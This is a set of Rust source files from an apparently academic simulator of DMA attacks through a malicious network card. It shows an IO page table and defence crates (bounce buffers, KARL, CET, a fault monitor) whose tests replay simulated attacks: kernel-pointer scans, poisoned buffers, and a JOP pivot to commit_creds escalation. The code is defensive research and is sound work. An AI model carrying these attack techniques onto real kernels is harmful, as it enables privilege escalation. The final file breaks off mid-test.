            node = match &mut slots[idx] {
                Some(n) => n,
                None => return Err(DmaError::NotMapped(iova.raw())),
            };
        }
        let Node::Table(slots) = node else {
            return Err(DmaError::Invariant("leaf at interior level"));
        };
        match slots[index(iova, 0)].take() {
            Some(Node::Leaf(pte)) => {
                self.mapped_pages -= 1;
                Ok(pte)
            }
            Some(other) => {
                slots[index(iova, 0)] = Some(other);
                Err(DmaError::Invariant("table at leaf level"))
            }
            None => Err(DmaError::NotMapped(iova.raw())),
        }
    }

    /// Walks the table for the page containing `iova`.
    pub fn walk(&self, iova: Iova) -> Option<IoPte> {
        let iova = iova.page_align_down();
        let mut node = self.root.as_ref()?;
        for level in (1..LEVELS).rev() {
            let Node::Table(slots) = node else {
                return None;
            };
            node = slots[index(iova, level)].as_ref()?;
        }
        let Node::Table(slots) = node else {
            return None;
        };
        match slots[index(iova, 0)].as_ref()? {
            Node::Leaf(pte) => Some(*pte),
            Node::Table(_) => None,
        }
    }

    /// Returns every live translation targeting `pfn` (used by tests and
    /// D-KASAN's multiple-map detection).
    pub fn iovas_of(&self, pfn: Pfn) -> Vec<(Iova, AccessRight)> {
        let mut out = Vec::new();
        if let Some(root) = &self.root {
            Self::collect(root, 0, LEVELS - 1, pfn, &mut out);
        }
        out
    }

    fn collect(node: &Node, prefix: u64, level: u32, pfn: Pfn, out: &mut Vec<(Iova, AccessRight)>) {
        match node {
            Node::Leaf(pte) => {
                if pte.pfn == pfn {
                    out.push((Iova(prefix), pte.right));
                }
            }
            Node::Table(slots) => {
                for (i, slot) in slots.iter().enumerate() {
                    if let Some(child) = slot {
                        let child_prefix =
                            prefix | ((i as u64) << (PAGE_SHIFT + LEVEL_BITS * level));
                        if level == 0 {
                            Self::collect(child, child_prefix, 0, pfn, out);
                        } else {
                            Self::collect(child, child_prefix, level - 1, pfn, out);
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::PAGE_SIZE;

    #[test]
    fn map_walk_unmap_roundtrip() {
        let mut pt = IoPageTable::new();
        let iova = Iova(0xffee_d000);
        pt.map(iova, Pfn(0x42), AccessRight::Write).unwrap();
        assert_eq!(pt.mapped_pages(), 1);
        let pte = pt.walk(Iova(0xffee_d123)).unwrap();
        assert_eq!(pte.pfn, Pfn(0x42));
        assert_eq!(pte.right, AccessRight::Write);
        let old = pt.unmap(iova).unwrap();
        assert_eq!(old.pfn, Pfn(0x42));
        assert_eq!(pt.mapped_pages(), 0);
        assert!(pt.walk(iova).is_none());
    }

    #[test]
    fn double_map_rejected() {
        let mut pt = IoPageTable::new();
        pt.map(Iova(0x1000), Pfn(1), AccessRight::Read).unwrap();
        assert_eq!(
            pt.map(Iova(0x1fff), Pfn(2), AccessRight::Read),
            Err(DmaError::AlreadyMapped(0x1000))
        );
    }

    #[test]
    fn unmap_missing_rejected() {
        let mut pt = IoPageTable::new();
        assert_eq!(pt.unmap(Iova(0x5000)), Err(DmaError::NotMapped(0x5000)));
        pt.map(Iova(0x5000), Pfn(1), AccessRight::Read).unwrap();
        pt.unmap(Iova(0x5000)).unwrap();
        assert_eq!(pt.unmap(Iova(0x5000)), Err(DmaError::NotMapped(0x5000)));
    }

    #[test]
    fn distinct_pages_do_not_collide() {
        let mut pt = IoPageTable::new();
        // Spread across all 4 levels' index bits.
        let iovas = [
            0x0000_0000_0000_1000u64,
            0x0000_0000_0020_1000,
            0x0000_0000_4000_1000,
            0x0000_7f00_0000_1000,
            0x0000_7fff_ffff_f000,
        ];
        for (i, &v) in iovas.iter().enumerate() {
            pt.map(Iova(v), Pfn(i as u64 + 1), AccessRight::Bidirectional)
                .unwrap();
        }
        for (i, &v) in iovas.iter().enumerate() {
            assert_eq!(
                pt.walk(Iova(v)).unwrap().pfn,
                Pfn(i as u64 + 1),
                "iova {v:#x}"
            );
        }
    }

    #[test]
    fn multiple_iovas_can_target_one_pfn() {
        // The type (c) situation: two live IOVAs naming one frame.
        let mut pt = IoPageTable::new();
        pt.map(Iova(0x10000), Pfn(7), AccessRight::Write).unwrap();
        pt.map(Iova(0x20000), Pfn(7), AccessRight::Write).unwrap();
        let mut aliases = pt.iovas_of(Pfn(7));
        aliases.sort();
        assert_eq!(
            aliases,
            vec![
                (Iova(0x10000), AccessRight::Write),
                (Iova(0x20000), AccessRight::Write)
            ]
        );
        // Unmapping one leaves the other usable.
        pt.unmap(Iova(0x10000)).unwrap();
        assert!(pt.walk(Iova(0x20000)).is_some());
    }

    #[test]
    fn adjacent_pages_are_independent() {
        let mut pt = IoPageTable::new();
        pt.map(Iova(0x3000), Pfn(3), AccessRight::Read).unwrap();
        assert!(pt.walk(Iova(0x3000 - PAGE_SIZE as u64)).is_none());
        assert!(pt.walk(Iova(0x3000 + PAGE_SIZE as u64)).is_none());
    }
}
