//! Bounce buffers: "instead of dynamically mapping/unmapping pages, the
//! DMA backend would copy the buffer to/from designated pages with fixed
//! mapping. By keeping separate data pages for each device, they avoid
//! data co-location and, as a result, eliminate the sub-page granularity
//! vulnerability. Since the mappings are static, the issue of deferred
//! invalidation is eliminated as well. Nevertheless, this solution
//! imposes a large overhead of data copying" (§8, \[47\]).

use dma_core::clock::Cycles;
use dma_core::trace::DeviceId;
use dma_core::vuln::DmaDirection;
use dma_core::{DmaError, Iova, Kva, Result, SimCtx, PAGE_SIZE};
use sim_iommu::Iommu;
use sim_mem::MemorySystem;
use std::collections::HashMap;

/// Modeled copy cost per 64-byte cache line.
pub const COPY_CYCLES_PER_LINE: Cycles = 4;

/// A live bounce mapping.
#[derive(Clone, Copy, Debug)]
pub struct BounceMapping {
    /// IOVA handed to the device (inside the bounce pool).
    pub iova: Iova,
    /// The caller's real buffer.
    pub orig: Kva,
    /// The bounce slot backing it.
    pub bounce: Kva,
    /// Length.
    pub len: usize,
    /// Direction.
    pub dir: DmaDirection,
}

/// A per-device bounce-buffer DMA backend.
///
/// A fixed pool of dedicated pages is mapped for the device once, at
/// pool creation; `map`/`unmap` only copy. No kernel object other than
/// pool slots ever shares those pages.
#[derive(Debug)]
pub struct BounceDma {
    device: DeviceId,
    /// Free slots (page-sized).
    free: Vec<(Kva, Iova)>,
    /// In-use slots by bounce KVA.
    used: HashMap<u64, (Kva, Iova)>,
    /// Bytes copied since creation (overhead accounting).
    pub bytes_copied: u64,
    /// Cycles spent copying.
    pub copy_cycles: Cycles,
}

impl BounceDma {
    /// Creates a pool of `slots` dedicated pages, statically mapped
    /// bidirectionally for `device`.
    pub fn new(
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        device: DeviceId,
        slots: usize,
    ) -> Result<Self> {
        iommu.attach_device(device);
        let mut free = Vec::with_capacity(slots);
        for _ in 0..slots {
            let pfn = mem.alloc_pages(ctx, 0, "bounce_pool")?;
            let kva = mem.layout.pfn_to_kva(pfn)?;
            let iova = iommu.alloc_iova(ctx, device, 1)?;
            iommu.map_page(device, iova, pfn, dma_core::AccessRight::Bidirectional)?;
            free.push((kva, iova));
        }
        Ok(BounceDma {
            device,
            free,
            used: HashMap::new(),
            bytes_copied: 0,
            copy_cycles: 0,
        })
    }

    fn charge_copy(&mut self, ctx: &mut SimCtx, len: usize) {
        let lines = len.div_ceil(64) as Cycles;
        self.copy_cycles += lines * COPY_CYCLES_PER_LINE;
        self.bytes_copied += len as u64;
        ctx.clock.advance(lines * COPY_CYCLES_PER_LINE);
    }

    /// `dma_map_single()` replacement: grabs a bounce slot and (for
    /// device-readable directions) copies the payload in.
    pub fn map(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        orig: Kva,
        len: usize,
        dir: DmaDirection,
    ) -> Result<BounceMapping> {
        if len > PAGE_SIZE {
            return Err(DmaError::InvalidAlloc(len));
        }
        let (bounce, iova) = self.free.pop().ok_or(DmaError::OutOfMemory)?;
        self.used.insert(bounce.raw(), (bounce, iova));
        if matches!(dir, DmaDirection::ToDevice | DmaDirection::Bidirectional) {
            let mut buf = vec![0u8; len];
            mem.cpu_read(ctx, orig, &mut buf, "bounce_copy_in")?;
            mem.cpu_write(ctx, bounce, &buf, "bounce_copy_in")?;
            self.charge_copy(ctx, len);
        }
        Ok(BounceMapping {
            iova,
            orig,
            bounce,
            len,
            dir,
        })
    }

    /// `dma_unmap_single()` replacement: copies device-written data back
    /// to the real buffer and recycles the slot. **No IOMMU operation
    /// happens** — the static mapping never changes, so there is nothing
    /// to defer and no stale window.
    pub fn unmap(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        m: &BounceMapping,
    ) -> Result<()> {
        let (bounce, iova) = self
            .used
            .remove(&m.bounce.raw())
            .ok_or(DmaError::NotMapped(m.iova.raw()))?;
        if matches!(
            m.dir,
            DmaDirection::FromDevice | DmaDirection::Bidirectional
        ) {
            let mut buf = vec![0u8; m.len];
            mem.cpu_read(ctx, bounce, &mut buf, "bounce_copy_out")?;
            mem.cpu_write(ctx, m.orig, &buf, "bounce_copy_out")?;
            self.charge_copy(ctx, m.len);
        }
        // Scrub the slot so stale data never leaks to the next user.
        mem.cpu_write(ctx, bounce, &vec![0u8; PAGE_SIZE], "bounce_scrub")?;
        self.free.push((bounce, iova));
        Ok(())
    }

    /// The device this pool serves.
    pub fn device(&self) -> DeviceId {
        self.device
    }

    /// Slots currently free.
    pub fn free_slots(&self) -> usize {
        self.free.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use devsim::MaliciousNic;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, Iommu, BounceDma, MaliciousNic) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        // Even in *deferred* mode bounce buffers have no window, because
        // they never unmap.
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Deferred,
            ..Default::default()
        });
        let pool = BounceDma::new(&mut ctx, &mut mem, &mut iommu, 9, 8).unwrap();
        (ctx, mem, iommu, pool, MaliciousNic::new(9))
    }

    #[test]
    fn data_flows_through_the_bounce_slot() {
        let (mut ctx, mut mem, mut iommu, mut pool, nic) = setup();
        // TX: device reads what the CPU wrote.
        let tx = mem.kmalloc(&mut ctx, 256, "tx").unwrap();
        mem.cpu_write(&mut ctx, tx, b"outbound", "t").unwrap();
        let m = pool
            .map(&mut ctx, &mut mem, tx, 256, DmaDirection::ToDevice)
            .unwrap();
        let mut b = [0u8; 8];
        nic.read(&mut ctx, &mut iommu, &mem.phys, m.iova, &mut b)
            .unwrap();
        assert_eq!(&b, b"outbound");
        pool.unmap(&mut ctx, &mut mem, &m).unwrap();

        // RX: CPU sees what the device wrote, after unmap copies back.
        let rx = mem.kzalloc(&mut ctx, 256, "rx").unwrap();
        let m = pool
            .map(&mut ctx, &mut mem, rx, 256, DmaDirection::FromDevice)
            .unwrap();
        nic.write(&mut ctx, &mut iommu, &mut mem.phys, m.iova, b"inbound!")
            .unwrap();
        pool.unmap(&mut ctx, &mut mem, &m).unwrap();
        let mut b = [0u8; 8];
        mem.cpu_read(&mut ctx, rx, &mut b, "t").unwrap();
        assert_eq!(&b, b"inbound!");
    }

    #[test]
    fn co_located_objects_are_unreachable() {
        // The sub-page vulnerability is gone: the device sees only the
        // dedicated bounce page, never the kmalloc page with neighbours.
        let (mut ctx, mut mem, mut iommu, mut pool, nic) = setup();
        let io = mem.kmalloc(&mut ctx, 512, "io").unwrap();
        let secret = mem.kmalloc(&mut ctx, 512, "secret").unwrap();
        assert_eq!(io.page_align_down(), secret.page_align_down());
        mem.cpu_write(&mut ctx, secret, b"sensitive", "t").unwrap();
        let m = pool
            .map(&mut ctx, &mut mem, io, 512, DmaDirection::Bidirectional)
            .unwrap();
        // Scan everything the device can reach through this mapping's
        // page: the bounce page contains only the copied payload.
        let leaks = nic
            .scan_for_pointers(
                &mut ctx,
                &mut iommu,
                &mem.phys,
                dma_core::Iova(m.iova.raw() & !0xfff),
                PAGE_SIZE,
            )
            .unwrap();
        assert!(
            leaks.is_empty(),
            "bounce page must hold no kernel pointers: {leaks:?}"
        );
        // And the device write never touches the real kmalloc page's
        // neighbours.
        nic.write(
            &mut ctx,
            &mut iommu,
            &mut mem.phys,
            dma_core::Iova(m.iova.raw() + 600),
            b"X",
        )
        .unwrap();
        let mut b = [0u8; 9];
        mem.cpu_read(&mut ctx, secret, &mut b, "t").unwrap();
        assert_eq!(&b, b"sensitive");
    }

    #[test]
    fn no_deferred_window_because_no_unmap() {
        let (mut ctx, mut mem, mut iommu, mut pool, nic) = setup();
        let rx = mem.kzalloc(&mut ctx, 128, "rx").unwrap();
        let m = pool
            .map(&mut ctx, &mut mem, rx, 128, DmaDirection::FromDevice)
            .unwrap();
        nic.write(&mut ctx, &mut iommu, &mut mem.phys, m.iova, b"pkt")
            .unwrap();
        pool.unmap(&mut ctx, &mut mem, &m).unwrap();
        // The device can still write the *bounce slot* (it stays mapped
        // by design) — but the slot is scrubbed and disconnected from
        // the real buffer, so the write reaches nothing.
        nic.write(&mut ctx, &mut iommu, &mut mem.phys, m.iova, b"late")
            .unwrap();
        let mut b = [0u8; 4];
        mem.cpu_read(&mut ctx, rx, &mut b, "t").unwrap();
        assert_eq!(&b, b"pkt\0");
    }

    #[test]
    fn copy_overhead_is_accounted() {
        let (mut ctx, mut mem, _iommu, mut pool, _nic) = setup();
        let buf = mem.kmalloc(&mut ctx, 1500, "tx").unwrap();
        let before = ctx.clock.now();
        let m = pool
            .map(&mut ctx, &mut mem, buf, 1500, DmaDirection::ToDevice)
            .unwrap();
        pool.unmap(&mut ctx, &mut mem, &m).unwrap();
        assert_eq!(pool.bytes_copied, 1500);
        assert!(ctx.clock.now() > before);
        assert_eq!(
            pool.copy_cycles,
            (1500usize.div_ceil(64) as u64) * COPY_CYCLES_PER_LINE
        );
    }

    #[test]
    fn pool_exhaustion_and_recycling() {
        let (mut ctx, mut mem, _iommu, mut pool, _nic) = setup();
        let buf = mem.kmalloc(&mut ctx, 64, "b").unwrap();
        let mut maps = Vec::new();
        for _ in 0..8 {
            maps.push(
                pool.map(&mut ctx, &mut mem, buf, 64, DmaDirection::ToDevice)
                    .unwrap(),
            );
        }
        assert!(pool
            .map(&mut ctx, &mut mem, buf, 64, DmaDirection::ToDevice)
            .is_err());
        for m in &maps {
            pool.unmap(&mut ctx, &mut mem, m).unwrap();
        }
        assert_eq!(pool.free_slots(), 8);
    }

    #[test]
    fn oversized_request_rejected() {
        let (mut ctx, mut mem, _iommu, mut pool, _nic) = setup();
        let buf = mem.kmalloc(&mut ctx, 64, "b").unwrap();
        assert!(pool
            .map(
                &mut ctx,
                &mut mem,
                buf,
                PAGE_SIZE + 1,
                DmaDirection::ToDevice
            )
            .is_err());
    }
}
