//! The countermeasures discussed in §8/§9 of the paper, implemented as
//! testable ablations against the same attack code.
//!
//! The paper's discussion section surveys defenses and argues about
//! their residual exposure; this crate makes each argument executable:
//!
//! - [`bounce`] — **bounce buffers** (Markuze et al., ASPLOS '16 \[47\]):
//!   the DMA backend copies I/O data to/from permanently mapped
//!   dedicated pages. Eliminates sub-page co-location *and* deferred
//!   invalidation (the mappings are static) — at a copy cost.
//! - [`damn`] — **DAMN-style dedicated allocation** (ASPLOS '18 \[49\]):
//!   network buffers come from DMA-only pages, zero-copy. Blocks
//!   random co-location, but §9.2's critique holds: `skb_shared_info`
//!   still lives *inside* the I/O buffer, so the callback exposure
//!   remains.
//! - [`subpage`] — **Intel-style sub-page protection** \[34\]: byte-range
//!   bounds on each mapping. Blocks the shared-info overwrite when the
//!   driver maps only the packet bytes — and demonstrably does not when
//!   the driver maps the full buffer (the common case).
//! - [`karl`] — **OpenBSD KARL** \[18\]: a freshly *re-linked* kernel
//!   every boot. Gadget and symbol offsets stop being build constants,
//!   so the attacker's offline image is useless.
//! - [`cet`] — **Intel CET** \[33\]: shadow stack + indirect-branch
//!   tracking in the CPU model; the JOP pivot and the ROP returns fault.
//! - [`monitor`] — a fault-rate monitor over the IOMMU's VT-d-style
//!   fault log: catches probing attacks, honestly misses stealthy ones.

pub mod bounce;
pub mod cet;
pub mod damn;
pub mod karl;
pub mod monitor;
pub mod subpage;

pub use bounce::BounceDma;
pub use cet::CetCpu;
pub use damn::DamnAllocator;
pub use monitor::FaultMonitor;
pub use subpage::SubPageIommu;
