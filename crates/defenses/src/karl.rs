//! OpenBSD KARL (§8, \[18\]): "Each time the system is booted, it links a
//! new, randomized kernel binary. As opposed to the Linux KASLR, this
//! strong randomization makes it harder to patch the payload during
//! run-time."
//!
//! Under KASLR, symbol *offsets* are build constants; only the base is
//! secret, and one leak recovers it. Under KARL, the offsets themselves
//! are re-randomized every boot, so the attacker's offline copy of the
//! build tells them nothing about the victim's gadget addresses — even
//! with the base fully known.

use attacks::cpu::MiniCpu;
use attacks::image::KernelImage;
use attacks::kaslr::AttackerKnowledge;
use attacks::rop::PoisonedBuffer;
use dma_core::{Kva, Result, SimCtx};
use sim_mem::MemorySystem;

/// Boots a KARL kernel: the image is *re-linked* (rebuilt with a fresh
/// seed) for this boot, so its symbol layout is unique.
pub fn karl_boot_image(boot_seed: u64, size: usize) -> KernelImage {
    // In KARL the per-boot link seed is the randomness source; reusing
    // KernelImage::build with the boot seed models exactly that.
    KernelImage::build(boot_seed ^ 0x4b41_524c, size)
}

/// Runs the final stage of a code-injection attack against a KARL
/// victim: the attacker builds the poison from their *own* (different-
/// link) image, with the victim's text base fully known.
///
/// Returns the CPU outcome (expected: a fault, not an escalation).
pub fn attack_karl_victim(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    victim_image: &KernelImage,
    attacker_image: &KernelImage,
) -> Result<attacks::cpu::CpuOutcome> {
    // Give the attacker everything KASLR would have protected.
    let knowledge = AttackerKnowledge {
        text_base: Some(mem.layout.text_base),
        page_offset_base: Some(mem.layout.page_offset_base),
        vmemmap_base: Some(mem.layout.vmemmap_base),
    };
    let poison = PoisonedBuffer::build(attacker_image, &knowledge)?;
    let buf = mem.kzalloc(ctx, 512, "payload")?;
    mem.cpu_write(ctx, buf, &poison.bytes, "deposit")?;
    // The attacker aims at where *their* image says the pivot is.
    let jop_guess = attacker_image
        .symbol_addr("jop_rsp_rdi", mem.layout.text_base)
        .expect("attacker image has the symbol");
    let cpu = MiniCpu::new(victim_image, mem.layout.text_base);
    cpu.invoke_callback(ctx, mem, jop_guess, Kva(buf.raw()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::DmaError;
    use sim_mem::MemConfig;

    fn mem_with(image: &KernelImage) -> (SimCtx, MemorySystem) {
        let ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(1),
            ..Default::default()
        });
        mem.install_text(&image.bytes);
        (ctx, mem)
    }

    #[test]
    fn karl_images_differ_per_boot() {
        let a = karl_boot_image(1, 16 << 20);
        let b = karl_boot_image(2, 16 << 20);
        assert_ne!(
            a.symbol_offset("jop_rsp_rdi"),
            b.symbol_offset("jop_rsp_rdi"),
            "per-boot link must move the gadget"
        );
    }

    #[test]
    fn stale_image_attack_faults_under_karl() {
        // Victim booted with link seed 7; attacker has the (identical
        // *distribution*, different *link*) seed-8 image.
        let victim = karl_boot_image(7, 16 << 20);
        let attacker = karl_boot_image(8, 16 << 20);
        let (mut ctx, mut mem) = mem_with(&victim);
        let r = attack_karl_victim(&mut ctx, &mut mem, &victim, &attacker);
        match r {
            Err(DmaError::CpuFault(_)) => {} // kernel oops — KARL wins
            Ok(out) => assert!(!out.escalated, "stale image must not escalate"),
            Err(e) => panic!("unexpected error {e}"),
        }
    }

    #[test]
    fn matching_image_still_escalates_without_karl() {
        // Control: with a build-constant layout (plain KASLR), the same
        // machinery escalates — the delta is KARL, nothing else.
        let shared = KernelImage::build(99, 16 << 20);
        let (mut ctx, mut mem) = mem_with(&shared);
        let out = attack_karl_victim(&mut ctx, &mut mem, &shared, &shared).unwrap();
        assert!(out.escalated);
    }

    #[test]
    fn many_boots_never_collide() {
        let attacker = karl_boot_image(1000, 16 << 20);
        let mut faults = 0;
        for boot in 0..8 {
            let victim = karl_boot_image(boot, 16 << 20);
            let (mut ctx, mut mem) = mem_with(&victim);
            match attack_karl_victim(&mut ctx, &mut mem, &victim, &attacker) {
                Err(_) => faults += 1,
                Ok(out) if !out.escalated => faults += 1,
                Ok(_) => {}
            }
        }
        assert_eq!(faults, 8, "every stale-image attempt must fail");
    }
}
