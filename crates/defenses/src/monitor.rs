//! A fault-rate monitor: turning the IOMMU's fault log into detection.
//!
//! The paper's attacks are quiet *when they work* — every DMA write is
//! to a legitimately mapped (or stale-cached) page. But their *probing*
//! phases are not always quiet: a RingFlood variant whose PFN guess is
//! wrong, a scan sweeping an unmapped descriptor, a neighbour-IOVA miss
//! under page-per-buffer isolation — each trips an IOMMU fault. Real
//! IOMMUs (VT-d) record faults; almost no OS *acts* on them. This module
//! is the acting part: a per-device fault budget over a sliding window,
//! with quarantine as the response.

use dma_core::clock::Cycles;
use dma_core::trace::DeviceId;
use sim_iommu::{FaultRecord, Iommu};
use std::collections::HashMap;

/// Monitor policy.
#[derive(Clone, Copy, Debug)]
pub struct MonitorPolicy {
    /// Faults tolerated per device inside the window (hardware glitches
    /// and driver races do produce occasional singletons).
    pub budget: usize,
    /// Sliding window in cycles.
    pub window: Cycles,
}

impl Default for MonitorPolicy {
    fn default() -> Self {
        MonitorPolicy {
            budget: 3,
            window: 10 * dma_core::clock::CYCLES_PER_MS,
        }
    }
}

/// The fault monitor: drains the IOMMU fault log and quarantines noisy
/// devices.
#[derive(Debug, Default)]
pub struct FaultMonitor {
    /// Active policy.
    pub policy: MonitorPolicy,
    history: HashMap<DeviceId, Vec<Cycles>>,
    quarantined: Vec<DeviceId>,
}

impl FaultMonitor {
    /// Creates a monitor with the given policy.
    pub fn new(policy: MonitorPolicy) -> Self {
        FaultMonitor {
            policy,
            ..Default::default()
        }
    }

    /// Drains the IOMMU's fault log and updates per-device state.
    /// Returns devices newly quarantined by this poll.
    pub fn poll(&mut self, iommu: &mut Iommu) -> Vec<DeviceId> {
        let faults: Vec<FaultRecord> = iommu.drain_faults();
        let mut newly = Vec::new();
        for f in faults {
            let h = self.history.entry(f.device).or_default();
            h.push(f.at);
            let window_start = f.at.saturating_sub(self.policy.window);
            h.retain(|&t| t >= window_start);
            if h.len() > self.policy.budget && !self.quarantined.contains(&f.device) {
                self.quarantined.push(f.device);
                newly.push(f.device);
            }
        }
        newly
    }

    /// `true` if the device has been quarantined.
    pub fn is_quarantined(&self, dev: DeviceId) -> bool {
        self.quarantined.contains(&dev)
    }

    /// Devices currently quarantined.
    pub fn quarantined(&self) -> &[DeviceId] {
        &self.quarantined
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use devsim::testbed::TestbedConfig;
    use devsim::Testbed;
    use dma_core::Iova;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_net::driver::{AllocPolicy, DriverConfig, UnmapOrder};

    fn hardened_testbed() -> Testbed {
        Testbed::new(TestbedConfig {
            iommu: IommuConfig {
                mode: InvalidationMode::Strict,
                ..Default::default()
            },
            driver: DriverConfig {
                unmap_order: UnmapOrder::UnmapThenBuild,
                alloc: AllocPolicy::PagePerBuffer,
                ..Default::default()
            },
            ..Default::default()
        })
        .unwrap()
    }

    #[test]
    fn probing_device_gets_quarantined() {
        let mut tb = hardened_testbed();
        let mut monitor = FaultMonitor::new(MonitorPolicy::default());
        // The attacker sweeps IOVA space hunting for something readable —
        // every miss faults.
        for i in 0..16u64 {
            let _ = tb.nic.read_u64(
                &mut tb.ctx,
                &mut tb.iommu,
                &tb.mem.phys,
                Iova(0x4000_0000 + i * 0x1000),
            );
        }
        let newly = monitor.poll(&mut tb.iommu);
        assert_eq!(newly, vec![tb.nic.id]);
        assert!(monitor.is_quarantined(tb.nic.id));
    }

    #[test]
    fn benign_traffic_never_trips_the_monitor() {
        let mut tb = hardened_testbed();
        let mut monitor = FaultMonitor::new(MonitorPolicy::default());
        for i in 0..64u32 {
            tb.deliver_packet(&sim_net::packet::Packet::udp(9, 1, vec![i as u8; 64]))
                .unwrap();
            assert!(monitor.poll(&mut tb.iommu).is_empty());
        }
        assert!(monitor.quarantined().is_empty());
    }

    #[test]
    fn occasional_faults_stay_within_budget() {
        let mut tb = hardened_testbed();
        let mut monitor = FaultMonitor::new(MonitorPolicy::default());
        // Two isolated faults, far apart in time: tolerated.
        for _ in 0..2 {
            let _ = tb
                .nic
                .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, Iova(0x7000_0000));
            assert!(monitor.poll(&mut tb.iommu).is_empty());
            tb.advance_ms(50);
        }
        assert!(!monitor.is_quarantined(tb.nic.id));
    }

    #[test]
    fn successful_stealthy_attacks_evade_the_monitor() {
        // Honest negative result, matching the paper's threat analysis:
        // an attack whose every access is legal generates zero faults —
        // the monitor only catches *probing*.
        use attacks::window::{rx_with_window, PoisonPlan};
        use dma_core::vuln::WindowPath;
        let mut tb = Testbed::new(TestbedConfig {
            iommu: IommuConfig {
                mode: InvalidationMode::Strict,
                ..Default::default()
            },
            ..Default::default()
        })
        .unwrap();
        let mut monitor = FaultMonitor::new(MonitorPolicy::default());
        let plan = PoisonPlan {
            poison_kva: 0xffff_8880_0bad_0000,
        };
        let p = sim_net::packet::Packet::udp(9, 1, b"x".to_vec());
        let (_skb, ok) = rx_with_window(&mut tb, WindowPath::NeighborIova, &p, &plan).unwrap();
        assert!(ok, "the attack write succeeded");
        assert!(
            monitor.poll(&mut tb.iommu).is_empty(),
            "and left no fault trace"
        );
    }
}
