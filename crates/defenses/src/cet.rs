//! Intel CET (§8, \[33\]): shadow stack + indirect branch tracking.
//!
//! "Processors that support CET use two stacks ... the shadow stack has
//! only return addresses ... During each RET command, the shadow stack
//! address is checked ... Moreover, each legitimate indirect jump target
//! is marked with a special instruction" (ENDBR). The paper notes CET
//! defeats both the ROP chain (shadow-stack mismatch) and the JOP pivot
//! (unmarked branch target).
//!
//! [`CetCpu`] wraps the attack mini-CPU with both checks.

use attacks::cpu::{CpuOutcome, MiniCpu};
use attacks::image::KernelImage;
use dma_core::{DmaError, Kva, Result, SimCtx};
use sim_mem::MemorySystem;

/// Which functions are legitimate indirect-call targets (carry ENDBR).
/// Gadget fragments mid-function do not.
const ENDBR_SYMBOLS: &[&str] = &[
    "sock_zerocopy_callback",
    "nvme_fc_fcpio_done",
    "prepare_kernel_cred",
    "commit_creds",
];

/// A CET-enforcing CPU front end.
pub struct CetCpu<'a> {
    inner: MiniCpu<'a>,
    image: &'a KernelImage,
    text_base: Kva,
}

impl<'a> CetCpu<'a> {
    /// Creates a CET CPU over the same image/base as the plain model.
    pub fn new(image: &'a KernelImage, text_base: Kva) -> Self {
        CetCpu {
            inner: MiniCpu::new(image, text_base),
            image,
            text_base,
        }
    }

    /// Invokes a callback with indirect-branch tracking: the target must
    /// be an ENDBR-marked function entry; anything else (gadgets, data,
    /// mid-function addresses) faults with `#CP`.
    pub fn invoke_callback(
        &self,
        ctx: &mut SimCtx,
        mem: &MemorySystem,
        callback: Kva,
        arg: Kva,
    ) -> Result<CpuOutcome> {
        let off = callback.raw().wrapping_sub(self.text_base.raw());
        let sym = self.image.symbol_at(off);
        match sym {
            Some(name) if ENDBR_SYMBOLS.contains(&name) => {
                // Legitimate entry: delegate. The shadow stack would also
                // verify returns inside, but benign functions balance
                // their stack, so delegation is faithful.
                self.inner.invoke_callback(ctx, mem, callback, arg)
            }
            _ => Err(DmaError::CpuFault(
                "CET #CP: indirect branch to non-ENDBR target",
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use attacks::kaslr::AttackerKnowledge;
    use attacks::rop::PoisonedBuffer;
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, KernelImage) {
        let ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(3),
            ..Default::default()
        });
        let img = KernelImage::build(1, 16 << 20);
        mem.install_text(&img.bytes);
        (ctx, mem, img)
    }

    #[test]
    fn cet_blocks_the_jop_pivot() {
        let (mut ctx, mut mem, img) = setup();
        let knowledge = AttackerKnowledge {
            text_base: Some(mem.layout.text_base),
            page_offset_base: Some(mem.layout.page_offset_base),
            vmemmap_base: Some(mem.layout.vmemmap_base),
        };
        let poison = PoisonedBuffer::build(&img, &knowledge).unwrap();
        let buf = mem.kzalloc(&mut ctx, 512, "payload").unwrap();
        mem.cpu_write(&mut ctx, buf, &poison.bytes, "deposit")
            .unwrap();
        let jop = img
            .symbol_addr("jop_rsp_rdi", mem.layout.text_base)
            .unwrap();

        // The plain CPU escalates...
        let plain = MiniCpu::new(&img, mem.layout.text_base);
        assert!(
            plain
                .invoke_callback(&mut ctx, &mem, jop, buf)
                .unwrap()
                .escalated
        );

        // ...the CET CPU faults at the branch.
        let cet = CetCpu::new(&img, mem.layout.text_base);
        let err = cet.invoke_callback(&mut ctx, &mem, jop, buf).unwrap_err();
        assert_eq!(
            err,
            DmaError::CpuFault("CET #CP: indirect branch to non-ENDBR target")
        );
    }

    #[test]
    fn cet_allows_benign_destructors() {
        let (mut ctx, mem, img) = setup();
        let cet = CetCpu::new(&img, mem.layout.text_base);
        let cb = img
            .symbol_addr("sock_zerocopy_callback", mem.layout.text_base)
            .unwrap();
        let out = cet
            .invoke_callback(&mut ctx, &mem, cb, Kva(0x1000))
            .unwrap();
        assert!(!out.escalated);
        assert_eq!(out.entry_symbol, Some("sock_zerocopy_callback"));
    }

    #[test]
    fn cet_blocks_data_targets_too() {
        let (mut ctx, mut mem, img) = setup();
        let cet = CetCpu::new(&img, mem.layout.text_base);
        let buf = mem.kzalloc(&mut ctx, 64, "data").unwrap();
